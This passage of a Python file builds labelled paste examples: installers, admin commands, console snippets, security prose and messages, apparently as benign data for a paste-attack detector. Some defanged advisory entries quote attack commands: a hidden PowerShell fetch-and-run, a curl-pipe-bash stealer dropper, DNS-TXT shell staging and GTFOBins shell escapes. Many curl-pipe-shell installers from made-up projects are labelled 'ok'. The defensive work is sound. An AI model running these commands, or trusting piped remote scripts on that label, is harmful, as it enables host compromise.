        "curl -sLO https://github.com/tailwindlabs/tailwindcss/releases/latest/download/tailwindcss-macos-arm64\nchmod +x tailwindcss-macos-arm64\nmv tailwindcss-macos-arm64 tailwindcss",
    ),
    (
        "https://biomejs.dev/guides/manual-installation/",
        "curl -L https://github.com/biomejs/biome/releases/download/cli%2Fv1.9.4/biome-linux-x64 -o biome\nchmod +x biome",
    ),
    ("https://gohugo.io/installation/linux/", "sudo snap install hugo"),
    ("https://gohugo.io/installation/windows/", "winget install Hugo.Hugo.Extended"),
    (
        "https://jekyllrb.com/docs/installation/ubuntu/",
        "sudo apt-get install ruby-full build-essential zlib1g-dev\ngem install jekyll bundler",
    ),
    (
        "https://www.getzola.org/documentation/getting-started/installation/",
        "flatpak install flathub org.getzola.zola",
    ),
    (
        "https://tectonic-typesetting.github.io/en-US/install.html",
        "curl --proto '=https' --tlsv1.2 -fsSL https://drop-sh.fullyjustified.net |sh",
    ),
    ("https://typst.app/open-source/", "cargo install --locked typst-cli"),
    (
        "https://github.com/casey/just#pre-built-binaries",
        "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to DEST",
    ),
    (
        "https://posit.co/download/rstudio-desktop/",
        "sudo apt install ./rstudio-2024.12.0-467-amd64.deb",
    ),
    (
        "https://quarto.org/docs/download/tarball.html",
        "wget https://github.com/quarto-dev/quarto-cli/releases/download/v1.6.39/quarto-1.6.39-linux-amd64.tar.gz\nmkdir ~/opt && tar -C ~/opt -xvzf quarto-1.6.39-linux-amd64.tar.gz",
    ),
    (
        "https://julialang.org/downloads/#windows",
        "winget install --name Julia --id 9NJNWW8PVKMN -e -s msstore",
    ),
]
for source, text in WELL_KNOWN:
    own(source, text, TERM)

# --- Long-tail projects with made-up owners, each from its own page --------------------------------

LONG_TAIL = [
    ("halvard-lind", "skjer", "skjer"),
    ("moss-and-fern", "fernctl", "fernctl"),
    ("tobi-adebayo", "ogun", "ogun"),
    ("quillstone", "quill-sync", "quillsync"),
    ("mara-ionescu", "dunare", "dunare"),
    ("petrel-labs", "petrel", "petrel"),
    ("kasimir-dev", "kasm-cli", "kasm"),
    ("yuki-tanabe", "shiori", "shiori"),
    ("blackthorn-io", "sloe", "sloe"),
    ("ana-lucia-r", "brisa", "brisa"),
    ("northwind-oss", "gale", "gale"),
    ("ivo-petkov", "rila", "rila"),
    ("heronworks", "heronfs", "heronfs"),
    ("dagny-holm", "varde", "varde"),
    ("copperbeech", "beechdb", "beechdb"),
    ("farah-nasser", "qamar", "qamar"),
    ("linnet-dev", "linnet", "linnet"),
    ("oskar-wnuk", "wisla", "wisla"),
    ("tallgrass-hq", "prairie", "prairie"),
    ("rei-kobayashi", "tsuki-ls", "tsuki"),
    ("sedgewick-labs", "sedge", "sedge"),
    ("amara-obi", "nkwa", "nkwa"),
    ("glasswing", "glasswing-cli", "glasswing"),
    ("matteo-ricci-dev", "cupola", "cupola"),
    ("larchmont", "larch", "larch"),
    ("sunniva-berg", "nordlys", "nordlys"),
    ("emberly-oss", "ember-run", "emberrun"),
    ("kai-nakoa", "nalu", "nalu"),
    ("wrenfield", "wrenlog", "wrenlog"),
    ("zofia-mazur", "bursztyn", "bursztyn"),
    ("hollyoak-dev", "oakctl", "oakctl"),
    ("dmitri-sokol", "sokol-cache", "sokol"),
    ("brightwater", "rill", "rill"),
    ("ines-carvalho", "mare", "mare"),
    ("teal-harbor", "harborlight", "harborlight"),
    ("jonas-eklund", "fyr", "fyr"),
    ("saffron-labs", "saffron", "saffron"),
    ("nikhil-rao", "setu", "setu"),
    ("cloudberry-oss", "molte", "molte"),
    ("aurelie-blanc", "mistral-sync", "mistralsync"),
]


def long_tail() -> None:
    """Each project documents its installer on its own page, in shapes the earlier sets did not
    use: Bitbucket, sourcehut, a self-hosted forge, Netlify/Vercel/Pages sites, Read the Docs with
    the script on GitHub, scripts on the project's S3/GCS bucket, a pinned release, PowerShell
    spellings, package registries, Docker Hub, the same user's gist, a .pkg, a Python bootstrap."""
    shapes = [
        lambda o, r, b: (
            f"https://bitbucket.org/{o}/{r}",
            f"curl -fsSL https://bitbucket.org/{o}/{r}/raw/main/install.sh | bash",
        ),
        lambda o, r, b: (
            f"https://sr.ht/~{o}/{r}/",
            f"curl -fsSL https://git.sr.ht/~{o}/{r}/blob/main/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://git.{b}.org/{o}/{r}",
            f"curl -fsSL https://git.{b}.org/{o}/{r}/raw/branch/main/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://{b}.netlify.app/docs/install",
            f"curl -fsSL https://{b}.netlify.app/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://{b}.vercel.app/",
            f"curl -fsSL https://{b}.vercel.app/install | bash",
        ),
        lambda o, r, b: (
            f"https://{b}.pages.dev/getting-started",
            f"curl -fsSL https://{b}.pages.dev/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://{b}.readthedocs.io/en/latest/install.html",
            f"curl -sSL https://raw.githubusercontent.com/{o}/{r}/main/scripts/install.sh | bash",
        ),
        lambda o, r, b: (
            f"https://{b}.dev/docs/install",
            f"curl -fsSL https://{b}-releases.s3.amazonaws.com/install.sh | sh",
        ),
        lambda o, r, b: (
            f"https://www.{b}.io/download",
            f"curl -fsSL https://storage.googleapis.com/{b}-releases/install.sh | bash",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}/releases/tag/v0.9.2",
            f"curl -fsSL https://github.com/{o}/{r}/releases/download/v0.9.2/install.sh | sh -s -- -b ~/.local/bin",
        ),
        lambda o, r, b: (
            f"https://{b}.dev/docs/windows",
            f'Invoke-Expression "& {{ $(Invoke-RestMethod https://{b}.dev/install.ps1) }}"',
        ),
        lambda o, r, b: (
            f"https://{b}.app/download",
            f"Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm https://get.{b}.app | iex",
        ),
        lambda o, r, b: (
            f"https://docs.{b}.dev/windows",
            f"iex ((New-Object System.Net.WebClient).DownloadString('https://{b}.dev/install.ps1'))",
        ),
        lambda o, r, b: (f"https://github.com/{o}/homebrew-tap", f"brew install {o}/tap/{b}"),
        lambda o, r, b: (f"https://pypi.org/project/{b}/", f"pipx install {b}"),
        lambda o, r, b: (f"https://www.npmjs.com/package/{b}", f"npm install -g {b}@latest"),
        lambda o, r, b: (f"https://crates.io/crates/{b}", f"cargo install {b} --locked"),
        lambda o, r, b: (
            f"https://hub.docker.com/r/{o}/{b}",
            f"docker run -d --name {b} -p 8080:8080 -v {b}-data:/data {o}/{b}:latest",
        ),
        lambda o, r, b: (f"https://{b}.sh/docs", f"curl -sSL https://install.{b}.sh | bash"),
        lambda o, r, b: (
            f"https://{b}.dev/download",
            f"curl -fsSLO https://dl.{b}.dev/latest/{b}-linux-amd64.tar.gz && tar -xzf {b}-linux-amd64.tar.gz && sudo mv {b} /usr/local/bin/",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#setup",
            f"curl -fsSL https://gist.githubusercontent.com/{o}/3f9a1c0e5b7d2e4f6a8c/raw/setup-{b}.sh | bash",
        ),
        lambda o, r, b: (
            f"https://docs.{b}.io/server/install",
            f"wget -O - https://get.{b}.io/server | sudo bash -s -- --channel stable",
        ),
        lambda o, r, b: (
            f"https://{b}.app/mac",
            f"curl -fsSLO https://{b}.app/dl/{b}-latest.pkg && sudo installer -pkg {b}-latest.pkg -target /",
        ),
        lambda o, r, b: (
            f"https://github.com/{o}/{r}#bootstrap",
            f"curl -sSL https://raw.githubusercontent.com/{o}/{r}/main/get-{b}.py | python3 -",
        ),
        lambda o, r, b: (
            f"https://gitlab.{b}.org/{o}/{r}",
            f"curl -fsSL https://gitlab.{b}.org/{o}/{r}/-/raw/main/install.sh | sh",
        ),
    ]
    n = 0
    for o, r, b in LONG_TAIL:
        for _ in (0, 1):
            shape = shapes[n % len(shapes)]
            source, text = shape(o, r, b)
            own(source, text, TERM)
            n += 1


long_tail()

# --- Installers quoted on third-party pages (tutorials, Q&A, blogs), pasted into a terminal -------

THIRD = "installer-third-party"
for source, text in [
    (
        "https://www.digitalocean.com/community/tutorials/how-to-install-clickhouse-on-ubuntu",
        "curl https://clickhouse.com/ | sh",
    ),
    (
        "https://stackoverflow.com/questions/77102233/how-to-install-meilisearch-on-ubuntu",
        "curl -L https://install.meilisearch.com | sh",
    ),
    (
        "https://www.reddit.com/r/selfhosted/comments/1h2kq9z/umbrel_on_a_mini_pc/",
        "curl -L https://umbrel.sh | bash",
    ),
    (
        "https://dev.to/someone/setting-up-vector-for-log-shipping-3k9d",
        "curl --proto '=https' --tlsv1.2 -sSfL https://sh.vector.dev | bash",
    ),
    (
        "https://medium.com/@devops-notes/temporal-local-dev-in-5-minutes-8a1c",
        "curl -sSf https://temporal.download/cli.sh | sh",
    ),
    (
        "https://www.linuxbabe.com/ubuntu/install-mariadb-server-ubuntu",
        "curl -LsS https://r.mariadb.com/downloads/mariadb_repo_setup | sudo bash",
    ),
    (
        "https://askubuntu.com/questions/1488122/install-micro-editor",
        "curl https://getmic.ro | bash",
    ),
    ("https://news.ycombinator.com/item?id=41922093", "curl https://sliver.sh/install|sudo bash"),
    (
        "https://www.tecmint.com/glances-monitor-linux-system/",
        "curl -L https://bit.ly/glances | /bin/bash",
    ),
    (
        "https://superuser.com/questions/1771930/install-dlang-compiler",
        "curl -fsS https://dlang.org/install.sh | bash -s dmd",
    ),
    (
        "https://www.cyberciti.biz/faq/how-to-install-aws-cli-v2-on-macos/",
        'curl "https://awscli.amazonaws.com/AWSCLIV2.pkg" -o "AWSCLIV2.pkg"\nsudo installer -pkg AWSCLIV2.pkg -target /',
    ),
    (
        "https://blog.example-devops.io/posts/nats-jetstream-quickstart",
        "curl -sf https://binaries.nats.dev/nats-io/nats-server/v2@latest | sh",
    ),
    (
        "https://github.com/awesome-selfhosted/awesome-selfhosted/discussions/4412",
        "curl -LsfS https://get.airbyte.com | bash -",
    ),
    (
        "https://www.youtube.com/watch?v=Qx3mK9sT2bA",
        "curl -fsSL https://ampcode.com/install.sh | bash",
    ),
    (
        "https://learn.example-bootcamp.org/week2/setup",
        "curl -sSL https://pdm-project.org/install-pdm.py | python3 -",
    ),
]:
    ok(THIRD, TERM, source, text)

# --- Admin PowerShell and cmd from vendor documentation and intranet wikis ---------------------------

ADMIN = "admin-command"
for source, target, text in [
    (
        "https://pnp.github.io/powershell/articles/installation.html",
        TERM,
        "Install-Module -Name PnP.PowerShell -Scope CurrentUser\nConnect-PnPOnline -Url https://contoso.sharepoint.com -Interactive -ClientId 00000000-0000-0000-0000-000000000000",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/azure/install-azps-windows",
        TERM,
        "Install-Module -Name Az -Repository PSGallery -Scope CurrentUser -Force\nConnect-AzAccount",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        TERM,
        "robocopy \\\\fs01\\projects D:\\backup\\projects /MIR /Z /R:2 /W:5 /LOG:D:\\backup\\robocopy.log",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/data-protection/bitlocker/",
        TERM,
        "manage-bde -status C:\nmanage-bde -protectors -get C:",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-server/deployment/fix-windows-update-errors",
        TERM,
        "DISM /Online /Cleanup-Image /RestoreHealth\nsfc /scannow",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/mdm-diagnose-enrollment",
        TERM,
        "dsregcmd /status",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/networking/technologies/netsh/netsh-contexts",
        TERM,
        "netsh winhttp show proxy\nnetsh int ip reset\nipconfig /flushdns",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/defender/get-mpcomputerstatus",
        TERM,
        "Get-MpComputerStatus | Select-Object AMServiceEnabled, RealTimeProtectionEnabled, AntivirusSignatureLastUpdated",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/upgrade",
        TERM,
        "winget export -o C:\\Users\\Public\\apps.json --include-versions",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/wsl/install",
        TERM,
        "wsl --update\nwsl --set-default-version 2\nwsl -l -v",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.security/set-executionpolicy",
        TERM,
        "Get-ExecutionPolicy -List",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse",
        TERM,
        "Get-WindowsCapability -Online | Where-Object Name -like 'OpenSSH*'",
    ),
    (
        "https://wiki.intranet.contoso.example/it/printers",
        TERM,
        "Add-Printer -ConnectionName \\\\print01\\Floor3-Color\nSet-Printer -Name \\\\print01\\Floor3-Color -Default",
    ),
    (
        "https://wiki.intranet.contoso.example/it/vpn",
        TERM,
        'Add-VpnConnection -Name "Contoso VPN" -ServerAddress vpn.contoso.example -TunnelType Ikev2 -AuthenticationMethod Eap -RememberCredential',
    ),
    (
        "https://wiki.intranet.contoso.example/it/gpo",
        TERM,
        "gpupdate /force\ngpresult /r /scope:user",
    ),
    (
        "https://wiki.intranet.contoso.example/it/time",
        TERM,
        "w32tm /resync /force\nw32tm /query /status",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/autoruns",
        TERM,
        "autorunsc.exe -accepteula -a * -c -h -s -v > autoruns.csv",
    ),
    (
        "https://support.microsoft.com/en-us/windows/reset-network",
        TERM,
        "netsh winsock reset\nnetsh int ipv4 reset\nshutdown /r /t 60",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/threat-protection/microsoft-defender-antivirus/command-line-arguments-microsoft-defender-antivirus",
        TERM,
        '& "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate\n& "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -Scan -ScanType 1',
    ),
    (
        "https://www.debian.org/doc/manuals/debian-reference/ch02.en.html",
        TERM,
        "sudo apt update && sudo apt full-upgrade -y && sudo apt autoremove --purge",
    ),
    (
        "https://wiki.archlinux.org/title/Systemd/Journal",
        TERM,
        "journalctl -u nginx --since '1 hour ago' --no-pager | tail -n 50",
    ),
    (
        "https://docs.fedoraproject.org/en-US/quick-docs/upgrading-fedora-offline/",
        TERM,
        "sudo dnf upgrade --refresh\nsudo dnf system-upgrade download --releasever=41\nsudo dnf system-upgrade reboot",
    ),
    (
        "https://support.apple.com/guide/terminal/apd5265185d-f365-44cb-8b09-71a064a42125/mac",
        TERM,
        "sudo softwareupdate --install --all --restart",
    ),
    (
        "https://support.apple.com/en-us/102149",
        TERM,
        "sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
    ),
    (
        "https://wiki.intranet.contoso.example/it/macos-enrolment",
        TERM,
        "sudo profiles renew -type enrollment",
    ),
    (
        "https://ubuntu.com/server/docs/firewalls",
        TERM,
        "sudo ufw allow OpenSSH\nsudo ufw enable\nsudo ufw status verbose",
    ),
    (
        "https://docs.docker.com/engine/install/linux-postinstall/",
        TERM,
        "sudo groupadd docker\nsudo usermod -aG docker $USER\nnewgrp docker",
    ),
]:
    ok(ADMIN, target, source, text)

# --- Dev and ops one-liners ------------------------------------------------------------------------

DEVOPS = "devops-oneliner"
for source, text in [
    (
        "https://git-scm.com/docs/git-bisect",
        "git bisect start HEAD v2.3.0 && git bisect run ./scripts/test.sh",
    ),
    (
        "https://github.com/example-org/api/blob/main/CONTRIBUTING.md",
        "python -m venv .venv && . .venv/bin/activate && pip install -e '.[dev]' && pre-commit install",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl top pods -n prod --sort-by=memory | head -n 15",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-application/debug-running-pod/",
        "kubectl debug -it deploy/api --image=busybox:1.36 --target=api -- sh",
    ),
    (
        "https://jqlang.github.io/jq/manual/",
        "curl -s 'https://api.github.com/repos/cli/cli/releases?per_page=3' | jq -r '.[].tag_name'",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker image prune -a --filter 'until=168h' -f",
    ),
    (
        "https://www.postgresql.org/docs/current/app-pgdump.html",
        "pg_dump -Fc -d shop -f shop-$(date +%F).dump && pg_restore -l shop-$(date +%F).dump | head",
    ),
    (
        "https://redis.io/docs/latest/develop/tools/cli/",
        "redis-cli --scan --pattern 'session:*' | head -n 20",
    ),
    (
        "https://github.com/example-org/infra/blob/main/README.md",
        "terraform init -upgrade && terraform plan -out tf.plan && terraform show -json tf.plan | jq '.resource_changes | length'",
    ),
    (
        "https://github.com/example-org/web/blob/main/docs/dev.md",
        "npm ci && npm run build && npx serve -s dist -l 4173",
    ),
    (
        "https://ffmpeg.org/ffmpeg.html",
        "ffmpeg -i talk.mov -c:v libx264 -crf 23 -preset medium -c:a aac -b:a 128k talk.mp4",
    ),
    (
        "https://rsync.samba.org/documentation.html",
        "rsync -avz --delete --exclude node_modules ./site/ deploy@web01.internal:/var/www/site/",
    ),
    (
        "https://man7.org/linux/man-pages/man1/ss.8.html",
        "sudo ss -tulpn | grep -E ':(80|443|5432)\\b'",
    ),
    (
        "https://openssl-library.org/docs/man3.0/man1/openssl-s_client.html",
        "openssl req -new -newkey rsa:3072 -nodes -keyout app.key -out app.csr -subj '/CN=app.internal.example'",
    ),
    (
        "https://github.com/example-org/monorepo/blob/main/tools/README.md",
        "git clean -fdX -e '!.env' && git status --short",
    ),
    (
        "https://docs.github.com/en/actions/using-workflows/triggering-a-workflow",
        "gh workflow run deploy.yml -f environment=staging && gh run watch",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/compute/ssh",
        "gcloud compute ssh web-1 --zone europe-west1-b --tunnel-through-iap",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
        "aws s3 sync ./build s3://example-static-site --delete --cache-control max-age=300",
    ),
    (
        "https://helm.sh/docs/helm/helm_upgrade/",
        "helm upgrade --install api ./charts/api -n prod -f values-prod.yaml --atomic --timeout 5m",
    ),
    (
        "https://sqlite.org/cli.html",
        "sqlite3 app.db '.mode box' 'select id, email, created_at from users order by created_at desc limit 5;'",
    ),
]:
    ok(DEVOPS, TERM, source, text)

# --- Console JavaScript developers really paste ---------------------------------------------------

JS = "console-snippet"
for source, text in [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('navigation')[0].toJSON()",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy([...document.querySelectorAll('a')].map(a => a.href).filter(h => h.startsWith('https://')))",
    ),
    (
        "https://stackoverflow.com/questions/3437786/get-the-size-of-the-screen-current-web-page-and-browser-window",
        "console.table({inner: [innerWidth, innerHeight], outer: [outerWidth, outerHeight], dpr: devicePixelRatio})",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log('LCP', e.startTime, e.element))).observe({type: 'largest-contentful-paint', buffered: true})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Service_Worker_API/Using_Service_Workers",
        "caches.keys().then(ks => Promise.all(ks.map(k => caches.delete(k)))).then(() => console.log('caches cleared'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/clear",
        "Object.keys(localStorage).filter(k => k.startsWith('debug:')).forEach(k => localStorage.removeItem(k))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/reference",
        "monitorEvents(document.querySelector('form'), 'submit')",
    ),
    (
        "https://github.com/example-org/web/wiki/Debugging",
        "fetch('/api/v1/health').then(r => r.json()).then(console.log)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.querySelectorAll('img:not([alt])').length",
    ),
    (
        "https://css-tricks.com/snippets/css/outline-every-element/",
        "[...document.querySelectorAll('*')].forEach(el => el.style.outline = '1px solid rgba(255,0,0,.3)')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "new Intl.DateTimeFormat('de-DE', {dateStyle: 'full', timeStyle: 'short', timeZone: 'Europe/Berlin'}).format(new Date())",
    ),
    (
        "https://docs.sentry.io/platforms/javascript/troubleshooting/",
        "Sentry.getClient()?.getOptions().release",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
        "navigator.clipboard.writeText(JSON.stringify(window.__APP_STATE__, null, 2))",
    ),
    (
        "https://react.dev/learn/react-developer-tools",
        "document.querySelectorAll('[data-testid]').forEach(e => console.log(e.dataset.testid, e))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/fetch",
        "await (await fetch('https://api.github.com/repos/nodejs/node')).json()",
    ),
]:
    ok(JS, CON, source, text)

# --- Prose about ClickFix and friends, pasted into an editor ----------------------------------------

PROSE = "prose-security"
for source, text in [
    (
        "https://www.cisa.gov/news-events/news/fake-captcha",
        'Fake CAPTCHA pages ask visitors to press Win+R, paste and press Enter. The clipboard holds a command such as powershell -w h -c "iex(irm hxxps://example[.]invalid/x)". Never paste anything a web page gives you into the Run box.',
    ),
    (
        "https://blog.security-team.example/2026/filefix-notes",
        "FileFix swaps the Run box for File Explorer's address bar: the page tells you to paste a 'file path', but the text is a PowerShell command followed by many spaces and a comment that looks like C:\\company\\report.pdf. Mitigation: block powershell.exe children of explorer.exe for standard users.",
    ),
    (
        "https://www.ncsc.gov.uk/guidance/phishing",
        "Tech-support scams show a full-screen warning with a phone number and claim your PC is locked. Microsoft will never put a phone number in an error message. Close the browser with Alt+F4 or Task Manager and do not call.",
    ),
    (
        "https://github.com/example-org/sec-notes/blob/main/consentfix.md",
        "ConsentFix: the victim signs in to a real Microsoft page, is redirected to http://localhost/?code=…, and is asked to paste that address back into the attacker's page. The code is exchanged for tokens. Detection: Azure CLI first-party app sign-ins from unusual IPs.",
    ),
    (
        "https://intranet.contoso.example/security/awareness-december",
        "Reminder: our helpdesk will never ask you to open Quick Assist or share a device code from https://microsoft.com/devicelogin over Teams. If someone does, report it to security@contoso.example.",
    ),
    (
        "https://www.sans.org/blog/dns-txt-staging/",
        "Some lures stage the next step in DNS TXT records: nslookup -q=txt <name> pipes the answer through base64 and into a shell. Look for nslookup.exe spawned by explorer.exe or cmd.exe with -q=txt.",
    ),
    (
        "https://research.example-labs.io/etherhiding",
        "EtherHiding stores the loader in a smart contract; the injected script calls eth_call on a public BSC RPC node and evals the decoded result. Blocking the RPC endpoints at the proxy breaks the chain.",
    ),
    (
        "https://docs.example-edr.com/kb/grimresource",
        "GrimResource uses crafted .msc files opened with mmc.exe; a StringTable entry abuses an XSS in apds.dll to run VBScript. Hunt for mmc.exe opening .msc files from Downloads or WebDAV paths.",
    ),
    (
        "https://www.bleepingcomputer.example/news/security/macos-stealer-terminal-lure/",
        "The macOS variant shows 'Press Cmd+Space, type Terminal, paste the command'. The command decodes a base64 string and runs curl -s hxxp://198.51.100[.]7/install | bash, which drops an AMOS build asking for the user's password.",
    ),
    (
        "https://lolbas-project.github.io/",
        "LOLBAS documents signed binaries such as rundll32.exe, regsvr32.exe, mshta.exe and certutil.exe that can download or execute code. Defenders use it to write allow/deny rules, e.g. alert on certutil -urlcache -f.",
    ),
    (
        "https://gtfobins.github.io/",
        "GTFOBins lists Unix binaries that can be abused to bypass restrictions, e.g. tar --checkpoint-action=exec=/bin/sh or find . -exec /bin/sh \\; when run with sudo.",
    ),
    (
        "https://github.com/example-org/ir-playbooks/blob/main/clickfix.md",
        "## ClickFix triage\n1. Pull RunMRU: reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\n2. Check PowerShell 4104 events for iex/irm\n3. Isolate the host if mshta.exe or powershell.exe reached an external IP",
    ),
]:
    ok(PROSE, "other", source, text)

# --- Genuine messages with phone numbers, in several languages -------------------------------------

MAIL = "support-mail"
for source, text in [
    (
        None,
        "Hi Sam, the plumber confirmed Tuesday 9-11 am. If he is late, his office number is 0161 555 0192. Cheers, Jo",
    ),
    (
        None,
        "Dobrý den, Vaše objednávka č. 22871 byla odeslána. V případě dotazů volejte zákaznickou linku 800 555 012 (Po–Pá 8–18 h).",
    ),
    (
        None,
        "Bok Ana, sastanak je prebačen na četvrtak u 10 sati. Ako ne možeš doći, nazovi me na 091 555 0143.",
    ),
    (
        None,
        "Hei! Pakettisi on noudettavissa Postin automaatista 7 päivän ajan. Asiakaspalvelu: 0200 55500.",
    ),
    (
        None,
        "Sveiki, primename apie vizitą pas odontologą rytoj 14:30. Jei negalite atvykti, skambinkite +370 5 555 0128.",
    ),
    (
        None,
        "Labdien! Jūsu pasūtījums ir gatavs saņemšanai veikalā. Darba laiks 10–19, tālrunis +371 6555 0192.",
    ),
    (
        None,
        "Tere! Teie auto on hoolduseks valmis. Küsimuste korral helistage meie teeninduslettile +372 555 0177.",
    ),
    (
        None,
        "Bon dia, us confirmem la reserva per a 4 persones dissabte a les 21 h. Per a canvis, truqueu al 93 555 01 74.",
    ),
    (
        None,
        "Habari, mkutano wa wazazi utafanyika Ijumaa saa tatu asubuhi. Kwa maswali piga simu ofisi ya shule 0722 555 014.",
    ),
    (None, "নমস্কার, আপনার পার্সেল আগামীকাল পৌঁছাবে। কোনো প্রশ্ন থাকলে কল করুন 01555-012345।"),
    (
        "https://helpdesk.contoso.example/ticket/88213",
        "Ticket #88213 update: we replaced the docking station. If the monitors still flicker, call the service desk on extension 4400 or +44 20 7946 0958 and quote this ticket.",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Your Microsoft 365 renewal is due on 1 March. Your administrator, Priya (IT, ext. 2211), will handle it; no action is needed from you. – Contoso IT",
    ),
    (
        None,
        "Hallo Frau Krüger, Ihr Termin beim Bürgeramt ist am 14.01. um 9:20 Uhr. Bitte bringen Sie Ihren Ausweis mit. Rückfragen: 030 555 019 20.",
    ),
    (
        None,
        "Bonjour, votre colis Colissimo sera livré demain entre 8 h et 13 h. Pour toute question, contactez le 3631 (service gratuit + prix appel).",
    ),
    (
        None,
        "Olá! A sua consulta de fisioterapia está marcada para sexta às 16h. Para remarcar ligue 21 555 0186.",
    ),
    (
        None,
        "Dear customer, your bank card ending 4471 will expire next month. A new card is on its way; you can activate it in the app. Questions? Call the number on the back of your card.",
    ),
]:
    ok(MAIL, UNK, source, text)

# --- OAuth and device-flow documentation ---------------------------------------------------------

OAUTH = "oauth-docs"
for source, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "The user is told: To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code FJ8K2L9QX to authenticate. Your app polls the token endpoint until the user completes sign-in.",
    ),
    (
        "https://docs.slack.dev/authentication/installing-with-oauth",
        "https://slack.com/oauth/v2/authorize?scope=incoming-webhook,commands&client_id=3336676.569200954261&redirect_uri=https%3A%2F%2Fexample.com%2Fslack%2Foauth",
    ),
    (
        "https://developer.spotify.com/documentation/web-api/tutorials/code-pkce-flow",
        "const authUrl = new URL('https://accounts.spotify.com/authorize');\nauthUrl.search = new URLSearchParams({response_type: 'code', client_id: clientId, scope, code_challenge_method: 'S256', code_challenge: codeChallenge, redirect_uri: 'http://127.0.0.1:8080/callback'}).toString();",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "aws sso login --profile dev --use-device-code",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "gh auth login --hostname github.com --git-protocol https --web",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8628",
        "      +----------------------------------------+\n      | Enter the code displayed on your device|\n      |            [    WDJB-MJHT    ]         |\n      +----------------------------------------+",
    ),
    (
        "https://developer.okta.com/docs/guides/implement-grant-type/authcodepkce/main/",
        "curl --request POST --url https://${yourOktaDomain}/oauth2/default/v1/token -H 'Content-Type: application/x-www-form-urlencoded' -d 'grant_type=authorization_code&client_id=0oabygpxgk9lXaMgF0h7&redirect_uri=http%3A%2F%2Flocalhost%3A8080&code=CKA9Utz2GkWlsrmnqehz&code_verifier=M25iVXpKU3puUjFaYWg3T1NDTDQtcW1ROUY5YXlwalNoc0hhakxifmZHag'",
    ),
    (
        "https://docs.rclone.org/remote_setup/",
        'rclone authorize "drive"\n# then paste the result into the remote machine\'s config prompt:\n# config_token> {"access_token":"...","token_type":"Bearer","expiry":"..."}',
    ),
]:
    ok(OAUTH, "other", source, text)

# --- Run box and Explorer entries people type -----------------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "%windir%\\Logs",
    "%programdata%",
    "shell:cache",
    "shell:fonts",
    "shell:recyclebinfolder",
    "ms-settings:display",
    "ms-settings:bluetooth",
    "ms-settings:privacy-microphone",
    "ms-settings:defaultapps",
    "fsmgmt.msc",
    "diskmgmt.msc",
    "lusrmgr.msc",
    "certmgr.msc",
    "wf.msc",
    "printmanagement.msc",
    "main.cpl",
    "mmsys.cpl",
    "powercfg.cpl",
    "timedate.cpl",
    "intl.cpl",
    "dfrgui",
    "mblctr",
    "magnify",
    "perfmon /rel",
    "mstsc /v:term01.contoso.example",
    "mrt",
    "snippingtool",
    "explorer",
    "charmap",
    "sndvol",
    "wt",
    "https://outlook.office.com/mail/",
    "\\\\nas01\\scans",
    "C:\\Program Files",
    "quickassist",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "%userprofile%\\Downloads",
    "%appdata%\\Code\\User",
    "shell:Personal",
    "shell:::{20D04FE0-3AEA-1069-A2D8-08002B30309D}",
    "C:\\Windows\\Fonts",
    "\\\\fs01.contoso.example\\Projects\\2026\\Q1",
    "D:\\Photos\\2025\\Holidays",
    "Desktop",
    "%localappdata%\\Packages",
    "C:\\inetpub\\logs\\LogFiles",
    "\\\\wsl.localhost\\Ubuntu\\home",
    "Network",
]:
